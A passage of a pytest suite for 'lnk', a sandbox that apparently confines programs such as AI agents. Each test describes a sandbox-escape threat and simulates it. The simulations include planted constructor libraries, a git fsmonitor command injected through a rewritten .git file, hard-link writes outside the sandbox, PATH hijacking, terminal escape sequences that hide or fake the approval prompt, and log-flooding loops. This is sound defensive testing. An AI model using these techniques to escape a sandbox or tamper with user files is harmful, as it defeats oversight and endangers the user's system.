    os.link(prog, tmp_path / "elsewhere" / "mytool")
    cp = lnk.run("--write", work, "--tool", "mytool *", "--", "mytool")
    assert cp.returncode == 0, (cp.stdout, cp.stderr)
    assert cp.stdout.strip() == "honest", cp.stdout


@pytest.mark.parametrize("how", ["runpath", "rpath", "origin", "loader"])
def test_tool_whose_loader_reads_a_write_folder_is_refused(lnk, work,
                                                           tmp_path, how):
    """Threat: an ELF tool's RUNPATH or RPATH (absolute, or $ORIGIN/..
    through a link) names a folder inside a write folder, or its loader
    (PT_INTERP) lies there: the program plants a library there (or
    rewrites the loader) and the tool loads it outside."""
    libdir = work / "lib"
    libdir.mkdir()
    bindir = tmp_path / "toolbin2"
    bindir.mkdir()
    src = "int main(void) { return 0; }\n"
    if how == "runpath":
        args = [f"-Wl,-rpath,/nonexistent:{libdir}", "-Wl,--enable-new-dtags"]
    elif how == "rpath":
        args = [f"-Wl,-rpath,{libdir}", "-Wl,--disable-new-dtags"]
    elif how == "origin":
        (bindir / "deps").symlink_to(work)
        args = ["-Wl,-rpath,$ORIGIN/deps/lib"]
    else:
        ld = "/lib64/ld-linux-x86-64.so.2"
        if not os.path.exists(ld):
            pytest.skip("no x86-64 loader to copy on this machine")
        shutil.copy(ld, libdir / "ld.so")
        args = [f"-Wl,--dynamic-linker={libdir}/ld.so"]
    _cc(tmp_path, src, bindir / "mytool", *args)
    bindir.chmod(0o755)
    base = lnk.env
    lnk.env = lambda extra=None: {
        **base(extra), "PATH": f"{bindir}:{base(extra)['PATH']}"}
    cp = lnk.run("--write", work, "--tool", "mytool *", "--", "mytool")
    assert cp.returncode == 2, (cp.returncode, cp.stdout, cp.stderr)
    assert "write folder" in cp.stderr and "mytool" in cp.stderr, cp.stderr



HONEST = "#!/bin/sh\necho honest\n"


def try_call(lnk, call, *grants, **kw):
    """Runs one python statement in a sandbox: prints "done", or "refused"
    and the errno."""
    return py(lnk, f"""
        import os
        try:
            {call}
            print("done")
        except OSError as e:
            print("refused", e.errno)
    """, *grants, **kw)


# Every way to change a file's content or mode through one of its names:
# the program's code, and what the name inside holds afterwards (None:
# refused, unchanged); the file outside must always still hold HONEST, 0755.
HARDLINK_WRITES = {
    "redirect": ("open('deploy', 'w').write('pwned\\n')", "pwned\n"),
    "append": ("open('deploy', 'a').write('pwned\\n')", HONEST + "pwned\n"),
    "rdwr": ("fd = os.open('deploy', os.O_RDWR); os.write(fd, b'#!/bin/sh"
             "\\necho PWNED!'); os.close(fd)", "#!/bin/sh\necho PWNED!\n"),
    "wronly-trunc": ("fd = os.open('deploy', os.O_WRONLY | os.O_TRUNC); "
                     "os.write(fd, b'pwned\\n'); os.close(fd)", "pwned\n"),
    "mmap": ("import mmap; fd = os.open('deploy', os.O_RDWR); "
             "m = mmap.mmap(fd, 0); m[0:2] = b'XX'; m.flush(); m.close(); "
             "os.close(fd)", "XX" + HONEST[2:]),
    "truncate": ("os.truncate('deploy', 3)", HONEST[:3]),
    "chmod": ("os.chmod('deploy', 0o777)", HONEST),
    "fchmod": ("os.fchmod(os.open('deploy', os.O_RDONLY), 0o777)", None),
    "chown": ("os.chown('deploy', os.getuid(), os.getgid())", None),
    "xattr": ("os.setxattr('deploy', 'user.lnk', b'1')", None),
}


def linked_out(outside, work, name, mode):
    """outside/name (HONEST, mode), with a second name work/name."""
    outside.mkdir()
    prog = outside / name
    prog.write_text(HONEST)
    prog.chmod(mode)
    os.link(prog, work / name)
    return prog


@pytest.mark.parametrize("how", sorted(HARDLINK_WRITES))
def test_file_hard_linked_out_of_a_write_folder_stays_unchanged(lnk, work,
                                                               tmp_path, how):
    """Threat: a file in a write folder is a second name of one outside it
    (`ln`, `cp -al` backups, a package store such as pnpm's, perf's
    ~/.debug build-id cache, which holds hard links of /usr/bin programs
    for root); the program writes through it, or makes it writable by
    everyone, and the file outside, a program the user (or root) runs
    later, is its own. The name inside gets a file of its own instead (or
    the change of mode is refused), and the program's write is kept."""
    prog = linked_out(tmp_path / "bin", work, "deploy", 0o755)
    code, inside = HARDLINK_WRITES[how]
    cp = try_call(lnk, code, "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert prog.read_text() == HONEST, (how, cp.stdout, cp.stderr)
    assert prog.stat().st_mode & 0o777 == 0o755
    if inside is None:
        assert "refused 1" in cp.stdout, cp.stdout  # EPERM
        assert "hard links" in cp.stderr, cp.stderr
        assert (work / "deploy").read_text() == HONEST
    else:
        assert "done" in cp.stdout, (cp.stdout, cp.stderr)
        assert (work / "deploy").read_text() == inside
        assert (work / "deploy").stat().st_mode & 0o777 == (
            0o777 if how == "chmod" else 0o755)
        assert not (work / "deploy").samefile(prog)
    assert [p.name for p in work.iterdir()] == ["deploy"]  # no leftover


def test_file_hard_linked_refused_where_the_program_may_not_write(lnk, work,
                                                                 tmp_path):
    """A shared file the program may not write is not given a copy (the
    write fails as it would have, nothing in the folder changes)."""
    prog = linked_out(tmp_path / "ro", work, "tool", 0o444)
    ino = (work / "tool").stat().st_ino
    cp = py(lnk, """
        import os
        try:
            os.open('tool', os.O_WRONLY)
            print("opened")
        except OSError as e:
            print("refused", e.errno)
    """, "--write", work)
    assert cp.returncode == 0, cp.stderr
    # EACCES, also as root (no capability inside)
    assert "refused 13" in cp.stdout, cp.stdout
    assert (work / "tool").stat().st_ino == ino
    assert prog.read_text() == HONEST


@pytest.mark.parametrize("name", [".envrc", ".bashrc"])
def test_chmod_of_a_hard_linked_dot_file_does_not_lift_its_read_only_mount(
        lnk, work, tmp_path, name):
    """Threat: a protected dot file at the top of a write folder (kept read
    only by a bind mount) is also a second name of a file elsewhere (`cp
    -al` backups, dotfiles hard-linked from a dotfiles repository). A chmod
    gives such a name a file of its own: renamed over the name from outside
    the sandbox's mount namespace, where the kernel does not refuse to
    rename a mount point, the copy would detach the read-only bind, and the
    program then writes what direnv or bash runs."""
    dot = work / name
    dot.write_text("echo honest\n")
    (tmp_path / "backup").mkdir()
    os.link(dot, tmp_path / "backup" / name)
    cp = sh(lnk, f"""
        echo 'echo PWNED' > {name} 2>/dev/null && echo wrote-before
        chmod 600 {name} 2>/dev/null; echo chmod=$?
        echo 'echo PWNED' > {name} 2>/dev/null && echo wrote-after
        true
    """, "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert "wrote-before" not in cp.stdout, cp.stdout
    assert "wrote-after" not in cp.stdout, (cp.stdout, cp.stderr)
    assert "chmod=0" not in cp.stdout, cp.stdout
    assert dot.read_text() == "echo honest\n"
    assert (tmp_path / "backup" / name).stat().st_ino == dot.stat().st_ino


def test_chmod_of_a_hard_linked_read_grant_in_a_write_folder(lnk, work,
                                                             tmp_path):
    """The same through --read FILE inside a write folder: the file stays
    read only, its mode and its other name unchanged."""
    pol = work / "policy.json"
    pol.write_text("{}\n")
    pol.chmod(0o644)
    os.link(pol, tmp_path / "policy.bak")
    cp = sh(lnk, """
        chmod 600 policy.json 2>/dev/null; echo chmod=$?
        echo '{"all": true}' > policy.json 2>/dev/null && echo wrote
        true
    """, "--write", work, "--read", pol)
    assert cp.returncode == 0, cp.stderr
    assert "wrote" not in cp.stdout and "chmod=0" not in cp.stdout, \
        cp.stdout
    assert pol.read_text() == "{}\n"
    assert pol.stat().st_mode & 0o777 == 0o644
    assert (tmp_path / "policy.bak").stat().st_ino == pol.stat().st_ino


def test_chmod_of_a_hard_linked_submodule_gitfile_runs_nothing_outside(
        lnk, work, tmp_path):
    """Threat, end to end: a project copied with `cp -al` (every file has a
    second name); its submodule's `.git` file is kept read only by a bind
    mount. Were chmod to detach that mount, the program would point the
    gitfile at a repository of its own with a core.fsmonitor, and the
    user's next plain `git status` at the top, outside the sandbox, would
    run it."""
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(lnk.home),
           "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"}

    def git(*a, cwd=work):
        subprocess.run(["git", *a], cwd=cwd, env=env, check=True,
                       capture_output=True)

    src = tmp_path / "subsrc"
    src.mkdir()
    git("init", "-q", cwd=src)
    git("commit", "-q", "--allow-empty", "-m", "i", cwd=src)
    git("init", "-q")
    git("-c", "protocol.file.allow=always", "submodule", "-q", "add",
        str(src), "lib/sub")
    git("commit", "-qm", "s")
    (tmp_path / "copy").mkdir()
    os.link(work / "lib/sub/.git", tmp_path / "copy" / "gitfile")
    marker = tmp_path / "PWNED"
    cp = sh(lnk, f"""
        chmod 644 lib/sub/.git &&
        git init -q evil &&
        git -C evil config core.fsmonitor 'touch {marker}; false' &&
        echo "gitdir: {work}/evil/.git" > lib/sub/.git && echo planted
        true
    """, "--write", work)
    assert cp.returncode == 0, cp.stderr
    subprocess.run(["git", "status"], cwd=work, env=env,
                   capture_output=True)
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert "planted" not in cp.stdout, cp.stdout


@pytest.mark.parametrize("grant", ["--read", "--write", None])
@pytest.mark.parametrize("call", ["os.fchmod(0, 0o777)",
                                  "os.chmod('/dev/stdin', 0o777)",
                                  "os.chmod('/proc/self/fd/0', 0o777)",
                                  "os.chmod(os.dup(0), 0o777)",
                                  "os.setxattr(0, 'user.lnk', b'1')"])
def test_host_file_given_as_stdin_keeps_its_mode(lnk, work, tmp_path, call,
                                                 grant):
    """Threat: `lnk sandbox run ... < ~/bin/deploy.sh`: the program holds a
    read-only descriptor of a file outside every grant and makes it
    writable by every account (or gives it an ACL), so that another local
    user rewrites what the user runs next. The descriptor's access is all
    it was given: its mode, owner and attributes are not the program's."""
    outside = tmp_path / "outside"
    outside.mkdir()
    prog = outside / "deploy.sh"
    prog.write_text(HONEST)
    prog.chmod(0o700)
    grants = (grant, work) if grant else ()
    with open(prog) as f:
        cp = try_call(lnk, call, *grants, stdin=f)
    assert cp.returncode == 0, cp.stderr
    assert prog.stat().st_mode & 0o777 == 0o700, (call, cp.stdout)
    assert "done" not in cp.stdout, cp.stdout
    assert not os.listxattr(prog), os.listxattr(prog)


@pytest.mark.parametrize("call", ["os.fchmod(0, 0o666)",
                                  "os.chmod('/dev/stdin', 0o666)",
                                  "os.chown(os.dup(0), -1, 0)"])
def test_terminal_given_as_stdin_keeps_its_mode(lnk, work, call):
    """Threat: without a pty of its own (its output is not a terminal),
    the program holds the user's terminal as its stdin; a mode of 0666
    would let every local account open it, read what is typed and inject
    input. The terminal is outside the sandbox's mounts: its mode and
    owner are not the program's."""
    master, slave = os.openpty()
    try:
        tty = os.ttyname(slave)
        before = os.stat(tty)
        cp = try_call(lnk, call, "--write", work, stdin=slave)
        after = os.stat(tty)
    finally:
        os.close(slave)
        os.close(master)
    assert cp.returncode == 0, cp.stderr
    assert "done" not in cp.stdout, cp.stdout
    assert (after.st_mode, after.st_uid, after.st_gid) == \
        (before.st_mode, before.st_uid, before.st_gid)


# --- file flags (chattr) of a file outside, and newer system calls ---

FS_IOC_GETFLAGS = 0x80086601
FS_IOC_FSSETXATTR = 0x401c5820
FSX_NODUMP_NOATIME = 0x80 | 0x40   # FS_XFLAG_NODUMP | FS_XFLAG_NOATIME
SET_FLAGS = {
    # FS_IOC_FSSETXATTR: the fsxattr form of chattr (xfs_io chattr)
    "ioctl-fssetxattr":
        "import fcntl, struct; "
        "fcntl.ioctl({fd}, 0x401c5820, "
        "struct.pack('5I8x', 0xc0, 0, 0, 0, 0))",
    # file_setattr(2) (Linux 6.17): the same by a path, no open at all
    "file_setattr":
        "import ctypes, struct; libc = ctypes.CDLL(None, use_errno=True); "
        "a = ctypes.create_string_buffer(struct.pack('QIIII', 0xc0, 0, 0, "
        "0, 0)); "
        "r = libc.syscall(469, {fd}, b'', a, 24, 0x1000); "
        "(_ for _ in ()).throw(OSError(ctypes.get_errno(), 'x')) "
        "if r < 0 else None",
}


def file_flags(path):
    import fcntl
    import struct
    fd = os.open(path, os.O_RDONLY)
    try:
        return struct.unpack("l", fcntl.ioctl(
            fd, FS_IOC_GETFLAGS, b"\0" * 8))[0]
    finally:
        os.close(fd)


def flags_settable_here(path):
    import fcntl
    import struct
    fd = os.open(path, os.O_RDONLY)
    try:
        fcntl.ioctl(fd, FS_IOC_FSSETXATTR,
                    struct.pack("5I8x", FSX_NODUMP_NOATIME, 0, 0, 0, 0))
        fcntl.ioctl(fd, FS_IOC_FSSETXATTR, struct.pack("5I8x", 0, 0, 0, 0,
                                                       0))
        return True
    except OSError:
        return False
    finally:
        os.close(fd)


def flagged_file(tmp_path, name):
    """tmp_path/outside/NAME holding HONEST, on a file system that takes
    fsxattr flags (else the test is skipped, saying why)."""
    outside = tmp_path / "outside"
    outside.mkdir()
    prog = outside / name
    prog.write_text(HONEST)
    if not flags_settable_here(prog):
        pytest.skip("this file system takes no fsxattr flags")
    return prog


@pytest.mark.parametrize("how", sorted(SET_FLAGS))
@pytest.mark.parametrize("grant", ["--read", "--write", None])
def test_host_file_given_as_stdin_keeps_its_flags(lnk, work, tmp_path, how,
                                                  grant):
    """Threat: `lnk sandbox run ... < ~/bin/deploy.sh`: the file's inode
    flags (chattr: nodump, noatime, sync) set through FS_IOC_FSSETXATTR or
    file_setattr(2) (FS_IOC_SETFLAGS was already refused): the program
    changes a file outside every grant (nodump hides it from backups)."""
    prog = flagged_file(tmp_path, "deploy.sh")
    before = file_flags(prog)
    grants = (grant, work) if grant else ()
    with open(prog) as f:
        cp = try_call(lnk, SET_FLAGS[how].format(fd=0), *grants, stdin=f)
    assert cp.returncode == 0, cp.stderr
    assert file_flags(prog) == before, (cp.stdout, hex(file_flags(prog)))
    assert "done" not in cp.stdout, cp.stdout


@pytest.mark.parametrize("how", sorted(SET_FLAGS))
def test_hard_linked_file_keeps_its_flags(lnk, work, tmp_path, how):
    """Threat: a file in a write folder is a second name of a file outside
    (cp -al, pnpm's store); its inode flags set through a read-only
    descriptor would be every name's: the file outside would change."""
    prog = flagged_file(tmp_path, "deploy")
    os.link(prog, work / "deploy")
    before = file_flags(prog)
    cp = try_call(lnk, "fd = os.open('deploy', os.O_RDONLY); " +
                  SET_FLAGS[how].format(fd="fd"), "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert file_flags(prog) == before, (cp.stdout, hex(file_flags(prog)))


def test_files_below_a_folder_given_as_stdin_keep_their_flags(lnk, work,
                                                               tmp_path):
    """Threat: `lnk sandbox run ... < ~/bin`: nothing is created or opened
    beneath a folder given by descriptor, but file_setattr(2) opens
    nothing: it would set the flags of any file below that folder by a
    path relative to the descriptor, past Landlock and the guard. A call
    newer than the filter's review answers ENOSYS."""
    prog = flagged_file(tmp_path, "deploy.sh")
    outside = prog.parent
    before = file_flags(prog)
    call = SET_FLAGS["file_setattr"].replace("b''", "b'deploy.sh'") \
        .replace("0x1000", "0").format(fd=3)
    code = f"import os\ntry:\n    {call}\n    print('done')\n" \
        "except OSError as e:\n    print('refused', e.errno)\n"
    d = os.open(outside, os.O_RDONLY | os.O_DIRECTORY)
    try:
        # python takes no folder as its stdin: the shell moves it to fd 3
        cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
                     f'exec 3<&0 </dev/null; exec {PY} -c "$0"', code,
                     stdin=d, timeout=60)
    finally:
        os.close(d)
    assert cp.returncode == 0, cp.stderr
    assert file_flags(prog) == before, (cp.stdout, hex(file_flags(prog)))
    assert "refused 38" in cp.stdout, cp.stdout  # ENOSYS


def test_host_file_given_as_stdin_keeps_its_generation(lnk, work, tmp_path):
    """Threat: FS_IOC_SETVERSION (ext4's chattr -v) changes the inode's
    generation of a file outside the grants held by descriptor."""
    import fcntl
    import struct
    prog = tmp_path / "deploy.sh"
    prog.write_text(HONEST)

    def generation():
        fd = os.open(prog, os.O_RDONLY)
        try:
            return struct.unpack("l", fcntl.ioctl(fd, 0x80087601,
                                                  b"\0" * 8))[0]
        except OSError:
            pytest.skip("this file system has no inode generation ioctl")
        finally:
            os.close(fd)
    before = generation()
    for cmd in (0x40087602, 0x40086604):  # FS_IOC_, EXT4_IOC_SETVERSION
        with open(prog) as f:
            cp = try_call(lnk, f"import fcntl, struct; fcntl.ioctl(0, "
                          f"{cmd}, struct.pack('l', {before ^ 0x5a5a}))",
                          "--write", work, stdin=f)
        assert cp.returncode == 0, cp.stderr
        assert generation() == before, (hex(cmd), cp.stdout)


@pytest.mark.parametrize("how", ["redirect", "append", "rdwr",
                                 "wronly-trunc", "mmap", "truncate"])
def test_hard_linked_file_stays_unchanged_with_write_dot_files(lnk, work,
                                                               tmp_path,
                                                               how):
    """Threat: as test_file_hard_linked_out_of_a_write_folder_stays_unchanged,
    in a write folder given --write-dot-files (the way to let a program
    commit): with no name left to keep there, opens and truncate must
    still go to the guard, or a write through the second name changes the
    file outside (pnpm's store, which every other project then runs)."""
    prog = linked_out(tmp_path / "bin", work, "deploy", 0o755)
    code, inside = HARDLINK_WRITES[how]
    cp = try_call(lnk, code, "--write", work, "--write-dot-files", work)
    assert cp.returncode == 0, cp.stderr
    assert "done" in cp.stdout, (cp.stdout, cp.stderr)
    assert prog.read_text() == HONEST, (how, cp.stdout, cp.stderr)
    assert (work / "deploy").read_text() == inside


def test_refused_changes_of_many_files_are_named_at_most_64_times(
        lnk, work, tmp_path):
    """Threat: each refused change of a file's owner or attributes (a
    second name, a descriptor given) is named once per file, on the
    terminal and in lnk's memory: a program refused for as many files as
    it can make would grow both without bound. 64 are named, then one
    line says the rest are not."""
    (tmp_path / "out").mkdir()
    for i in range(100):
        f = work / f"f{i}"
        f.write_text("x")
        os.link(f, tmp_path / "out" / f"f{i}")
    cp = py(lnk, """
        import os
        refused = 0
        for i in range(100):
            fd = os.open(f"f{i}", os.O_RDONLY)
            try:
                os.fchmod(fd, 0o600)
            except PermissionError:
                refused += 1
            os.close(fd)
        print("refused", refused)
    """, "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert cp.stdout.split() == ["refused", "100"], cp.stdout
    named = [l for l in cp.stderr.splitlines() if "refused to change" in l]
    assert len(named) == 64, len(named)
    assert cp.stderr.count("not named one by one") == 1, cp.stderr[-300:]


# --- the call log under a flood of refused calls ---

FLOOD_CONNECT = r"""
import socket, sys, time
t0 = time.time(); i = 0
while time.time() - t0 < 10:
    try:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
        s.sendall(f"CONNECT h{i}.flood.invalid:443 HTTP/1.1\r\n\r\n".encode())
        s.recv(200); s.close()
    except OSError:
        pass
    i += 1
print("sent", i)
"""

FLOOD_DNS = r"""
import socket, struct, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setblocking(False)
t0 = time.time(); i = 0; pad = "x" * 60
while time.time() - t0 < 10:
    for _ in range(200):
        q = struct.pack(">HHHHHH", i & 0xffff, 0x100, 1, 0, 0, 0)
        for l in f"{pad}.{i:012d}.{pad}.{pad}.flood".split("."):
            q += bytes([len(l)]) + l.encode()
        q += b"\0" + struct.pack(">HH", 1, 1)
        try: s.sendto(q, ("127.0.0.1", 53))
        except BlockingIOError: pass
        i += 1
    try:
        while True: s.recv(4096)
    except BlockingIOError: pass
    time.sleep(0.001)
print("sent", i)
"""


@pytest.mark.parametrize("code", [FLOOD_CONNECT, FLOOD_DNS],
                         ids=["connect-after-trip", "dns-unique-names"])
def test_program_cannot_grow_the_call_log_without_bound(lnk, work, code):
    """Threat: a program with one host granted writes the user's disk
    outside its folders (~/.lnk/sandbox/lnk.db) as fast as it can make
    refused calls, tripped wire or not (measured: 0.5 to 5.5 MB a second),
    until the disk is full and no sandbox starts, and buries the calls a
    person looks for. Refusals past a burst are counted, and the count is
    logged."""
    f = nethosts()
    (work / "flood.py").write_text(textwrap.dedent(code))
    db = lnk.home / ".lnk/sandbox/lnk.db"
    cp = lnk.run("--read", work, "--internet-host", f["ORIGIN"], "--",
                 PY, str(work / "flood.py"), timeout=120,
                 env={"LNK_DNS_SERVER": f["LNK_DNS_SERVER"]})
    assert "sent" in cp.stdout, cp.stdout + cp.stderr
    sent = int(cp.stdout.split()[-1])
    out = lnk("sandbox", "log", "--json", "--lines", "1000000", check=True)
    rows = [json.loads(x) for x in out.stdout.splitlines()]
    size = sum(p.stat().st_size for p in db.parent.glob("lnk.db*"))
    # 10 s of refused calls: a burst and one a second, not tens or
    # hundreds of thousands of rows (and megabytes a second)
    assert len(rows) < 2000 and size < 5 << 20, (len(rows), size, sent)
    # and the log says how many were not logged one by one
    counted = [r for r in rows if "not logged one by one" in
               json.dumps(r)]
    assert counted, rows[-3:]
    assert sent > 2000, sent


# --- leftovers: lnk's own loader path ---
# `export LD_LIBRARY_PATH=$LD_LIBRARY_PATH:/opt/lib` leaves an empty entry,
# the current folder, often a write folder. lnk opens OpenSSL (a model
# route) and libdbus (the desktop's questions) by name, outside: a library
# of that name an earlier sandbox left in the folder would run as the user.

PLANTED_LIB = """
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void planted(void)
{
    int fd = open("@MARKER@", O_WRONLY | O_CREAT | O_APPEND, 0666);
    if (fd >= 0) {
        (void)write(fd, "@NAME@\\n", sizeof("@NAME@\\n") - 1);
        close(fd);
    }
}
"""


@pytest.mark.parametrize("ldpath", [":/nonexistent", "/nonexistent:",
                                    "/nonexistent::/x", ".", "lib"])
def test_library_left_in_the_working_folder_never_loads_outside(
        lnk, work, tmp_path, ldpath):
    """Threat: a sandbox writes libssl.so.3 and libdbus-1.so.3 into its
    write folder; the next lnk started there, with an empty or relative
    LD_LIBRARY_PATH entry, opens them outside (as the user, or root) for
    a model route and for the desktop's questions."""
    marker = tmp_path / "loaded"
    for d in (work, work / "lib"):
        d.mkdir(exist_ok=True)
        for name in ("libssl.so.3", "libdbus-1.so.3"):
            _cc(tmp_path, PLANTED_LIB.replace("@MARKER@", str(marker))
                .replace("@NAME@", name), d / name, "-shared", "-fPIC")
    on_lnk_path(lnk, tmp_path / "toolbin3", "mytool", "#!/bin/sh\n")
    cp = lnk.run("--write", work, "--tool", "mytool *",
                 "--model", "fake=https://127.0.0.1:9/v1", "--", "true",
                 env={"LD_LIBRARY_PATH": ldpath, "FAKE_API_KEY": "sk-x",
                      "DISPLAY": ":99",
                      "DBUS_SESSION_BUS_ADDRESS":
                      f"unix:path={tmp_path}/no-bus"})
    assert not marker.exists(), (marker.read_text(), cp.stderr)
    assert cp.returncode == 0, (cp.returncode, cp.stdout, cp.stderr)


def test_dialog_tool_gets_no_search_path_of_the_programs_folder(
        lnk, work, tmp_path):
    """Threat: the desktop's dialog tool (zenity, a GTK program) ran with
    lnk's raw environment in lnk's folder, a write folder: an empty
    LD_LIBRARY_PATH entry loaded a library the program left there, and
    GTK's own *PATH and *_DIRS variables found its modules there. The
    dialog gets the tools' environment (absolute entries only) in /."""
    import test_ask_desktop as ad
    why = ad._missing()
    if why:
        pytest.skip(why)
    d = ad.Desktop(tmp_path / "desktop")
    try:
        rec = tmp_path / "dialog.json"
        on_lnk_path(lnk, tmp_path / "toolbin4", "mytool", "#!/bin/sh\n",
                    **d.env, LD_LIBRARY_PATH=":/opt/x:lib",
                    GTK_PATH="gtk:/opt/gtk", XDG_DATA_DIRS=":/usr/share")
        (tmp_path / "toolbin4" / "zenity").write_text(
            "#!/usr/bin/python3\nimport json, os\n"
            f"json.dump({{'cwd': os.getcwd(), 'env': dict(os.environ)}}, "
            f"open({str(rec)!r}, 'w'))\nraise SystemExit(1)\n")
        (tmp_path / "toolbin4" / "zenity").chmod(0o755)
        d.server(actions=False)
        cp = lnk.run("--write", work, "--tool", "mytool pr", "--",
                     "/bin/sh", "-c", "mytool issue; echo st=$?",
                     timeout=90)
    finally:
        d.stop()
    assert "st=126" in cp.stdout, (cp.stdout, cp.stderr)
    got = json.loads(rec.read_text())
    assert got["cwd"] == "/", got["cwd"]
    assert got["env"].get("LD_LIBRARY_PATH") == "/opt/x", got["env"]
    assert got["env"].get("GTK_PATH") == "/opt/gtk", got["env"]
    assert got["env"].get("XDG_DATA_DIRS") == "/usr/share", got["env"]


# --- leftovers: the terminal's state before a question ---


@pytest.mark.parametrize("state", ["nowrap", "region", "leftover"])
def test_terminal_state_the_program_left_cannot_hide_the_question(
        lnk, tmp_path, outside_tool, state):
    """Threat: before its call, the program sets the terminal so that lnk's
    question is cut or scrolled away while its code stays visible: no
    autowrap (the arguments past the right margin unseen), a scroll region
    of three lines under a fake question it drew, or the cursor moved up
    onto text it drew (the rest of a line, ' --dry-run', read as part of
    lnk's). What the user sees must be the whole question, and nothing of
    the program's on its lines."""
    import re
    from test_ask_terminal import Pane
    fake = "lnk: sandbox asker asks to run, outside: mytool pr list"
    setup = {
        "nowrap": "\\033[?7l",
        "region": f"\\033[2J\\033[H{fake}\\n\\033[3;5r\\033[3H",
        "leftover": "\\033[2J\\033[H" + "\\n".join(
            [f"{'':>130} --dry-run"] * 8) + "\\033[H",
    }[state]
    script = (f"printf '{setup}'; mytool pr delete "
              f"{'y' * 240} DANGER; echo st=$?")
    p = Pane(lnk, tmp_path, ["--name", "asker", "--tool", "mytool pr list",
                             "--", "/bin/sh", "-c", script])
    try:
        p.wait_for(re.compile(REAL_PROMPT, re.M))
        time.sleep(0.3)
        shown = p.tmux("capture-pane", "-p", "-J", "-t", "ask")
        lines = [x.rstrip() for x in shown.splitlines()]
        i = lines.index("lnk: sandbox asker asks to run, outside, as you:")
        assert lines[i + 1:i + 4] == ["mytool pr ... (4 arguments), in /",
                                      "  1  pr", "  2  delete"], shown
        assert lines[i + 4].startswith("  3  " + "y" * 150), shown
        assert lines[i + 5] == "  4  DANGER", shown
        assert re.search(REAL_PROMPT, shown, re.M), shown
        # nothing of the program's on the question's rows
        assert "dry-run" not in "".join(lines[i:]), shown
        p.key("Escape")
        p.wait_for("st=126")
    finally:
        p.close()
    assert tool_calls(outside_tool) == []


# --- leftovers: the tools' search paths ---


@pytest.mark.parametrize("var", ["PATH", "LD_LIBRARY_PATH", "PYTHONPATH"])
def test_tool_search_path_inside_a_write_folder_is_dropped(lnk, work,
                                                          tmp_path, var):
    """Threat: lnk's environment names a folder inside a write folder by
    its absolute path (an activated virtualenv's .venv/bin, direnv's
    node_modules/.bin, PYTHONPATH=~/code/app/src): a tool, outside, runs
    or loads from there by name (`ls`, `git`, a module), and the program
    puts its own file there first. Such an entry is dropped from the
    tool's environment, as a relative one is."""
    marker = tmp_path / "pwned"
    _tool_on_path(lnk, tmp_path, "#!/bin/sh\nls >/dev/null 2>&1\n"
                  f"echo \"{var}=${var}\"\n")
    inside = work / "bin"
    inside.mkdir()
    base = lnk.env
    lnk.env = lambda extra=None: {
        **base(extra),
        var: f"{inside}:/opt/x" + (":" + base(extra)["PATH"]
                                   if var == "PATH" else "")}
    cp = sh(lnk, f"printf '#!/bin/sh\\necho pwned > {marker}\\n' > "
            f"{inside}/ls; chmod +x {inside}/ls; mytool",
            "--write", work, "--tool", "mytool *")
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert cp.returncode == 0, (cp.stdout, cp.stderr)
    got = cp.stdout.strip().split("=", 1)[1].split(":")
    assert str(inside) not in got and "/opt/x" in got, cp.stdout


# --- leftovers: the folder a question's tool runs in ---


def test_question_names_the_folder_the_tool_runs_in(lnk, work, tmp_path,
                                                    outside_tool):
    """Threat: gh and git act on the repository of their folder, and the
    program picks the folder (any granted one): it asks `gh pr merge 5`
    from another project it may only read, and the user, seeing just the
    call, merges there. The question names the folder, which is where the
    tool runs even if the program moves or swaps it after asking."""
    from test_terminal import read_until, spawn_on_pty, wait_status
    other = tmp_path / "other project"
    other.mkdir()
    pid, fd = spawn_on_pty(lnk, [
        "--name", "asker", "--read", other, "--write", work,
        "--tool", "mytool pr list", "--", "/bin/sh", "-c",
        f"cd '{other}' && mytool pr merge 5; echo st=$?"], cols=200)
    try:
        out = read_until(fd, b"(or no)")
        asks = json.loads(lnk("sandbox", "asks", "--json",
                              check=True).stdout)
        lnk("sandbox", "answer", asks[0]["id"], "yes", check=True)
        out += read_until(fd, b"st=", timeout=30)
    finally:
        wait_status(pid)
        os.close(fd)
    assert [a["question"] for a in asks] == [
        f"mytool pr ... (3 arguments), in '{other}'"], asks
    assert f"in '{other}'".encode() in out, out
    assert f"cwd:{other}".encode() in out, out


def test_dialog_tool_the_program_can_rewrite_is_not_run(lnk, work, tmp_path):
    """Threat: the desktop's dialog tool (zenity, found on lnk's PATH) runs
    outside, as the user, like a tool: one with a second name (a hard
    link) in a write folder, or lying in one, is the program's to rewrite
    before it calls a tool that asks. Such a dialog tool is not used."""
    import test_ask_desktop as ad
    why = ad._missing()
    if why:
        pytest.skip(why)
    marker = tmp_path / "pwned"
    d = ad.Desktop(tmp_path / "desktop")
    try:
        on_lnk_path(lnk, tmp_path / "toolbin4", "mytool", "#!/bin/sh\n",
                    **d.env)
        zen = tmp_path / "toolbin4" / "zenity"
        zen.write_text("#!/bin/sh\nexit 1\n")
        zen.chmod(0o755)
        os.link(zen, work / "zenity")
        d.server(actions=False)
        cp = sh(lnk, f"printf '#!/bin/sh\\necho pwned > {marker}\\n' > "
                "zenity; mytool issue; echo st=$?", "--write", work,
                "--tool", "mytool pr", timeout=90)
    finally:
        d.stop()
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert "st=126" in cp.stdout, (cp.stdout, cp.stderr)


def test_tool_environment_names_no_file_the_program_writes(lnk, work,
                                                           tmp_path):
    """Threat: lnk's environment points a tool's configuration into a write
    folder (direnv's XDG_CONFIG_HOME=~/code/app/.config, GIT_CONFIG_GLOBAL,
    a project's NPM_CONFIG_USERCONFIG): the program writes that file, and
    git, run outside as a tool, runs the fsmonitor command it names. A
    variable of lnk's whose value is a path in a write folder is left out
    of the tools' environment (HOME excepted)."""
    if not shutil.which("git"):
        pytest.skip("git is not installed")
    marker = tmp_path / "pwned"
    repo = tmp_path / "repo"
